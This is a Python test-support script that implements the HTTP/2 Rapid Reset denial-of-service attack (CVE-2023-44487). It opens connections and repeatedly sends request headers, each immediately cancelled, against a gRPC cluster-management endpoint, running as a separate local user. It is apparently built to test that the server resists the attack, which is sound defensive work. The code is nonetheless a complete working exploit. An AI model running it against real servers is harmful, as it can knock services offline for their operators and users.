"""Another user of the machine who opens calls and resets them at once, as fast as they are taken.

`python -m tests.support.rapid_reset UID HOST:PORT`, with TLS after `--tls`: prints `begun` when a
part has been sent, and goes on until its standard input ends (CVE-2023-44487).
"""

import encodings.idna  # noqa: F401 - names are looked up after the rights are given up
import os
import socket
import ssl
import struct
import sys
import threading

_METHOD = b"/cluster.cluster_mgmt_pb.ClusterManagement/GetJob"
_MANY = 1000
_HEADERS, _RESET, _SETTINGS = 1, 3, 4
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)


def main() -> None:
    """Run from the command line."""
    uid, (host, _, port) = int(sys.argv[1]), sys.argv[2].rpartition(":")
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    is_over = threading.Event()
    flood = threading.Thread(
        target=_flood, args=((host, int(port)), is_over, "--tls" in sys.argv), daemon=True
    )
    flood.start()
    sys.stdin.read()
    is_over.set()
    flood.join(30)


def _flood(address: tuple[str, int], is_over: threading.Event, has_tls: bool) -> None:
    while not is_over.is_set():
        try:
            _use_up(address, is_over, has_tls=has_tls)
        except OSError:
            is_over.wait(0.05)


def _use_up(address: tuple[str, int], is_over: threading.Event, *, has_tls: bool) -> None:
    """Send calls by one connection until it is cut or has no numbers left."""
    with socket.create_connection(address, timeout=60) as plain:
        connection = _encrypted(plain) if has_tls else plain
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
        for first in range(1, 1 << 30, 2 * _MANY):
            if is_over.is_set():
                return
            connection.sendall(b"".join(map(_call, range(first, first + 2 * _MANY, 2))))
            if first == 1:
                print("begun", flush=True)


def _encrypted(plain: socket.socket) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain)


def _drain(connection: socket.socket) -> None:
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        return


def _call(stream: int) -> bytes:
    return _frame(_HEADERS, _END_HEADERS, stream, _HEADER_BLOCK) + _frame(
        _RESET, 0, stream, _CANCEL
    )


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def _literal(name: bytes, value: bytes) -> bytes:
    """Return a header that is not indexed (RFC 7541, 6.2.2); both are short."""
    return b"\0" + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    assert len(text) < 127
    return bytes((len(text),)) + text


_HEADER_BLOCK = b"".join(
    _literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", _METHOD),
        (b":authority", b"a"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
)


if __name__ == "__main__":
    main()
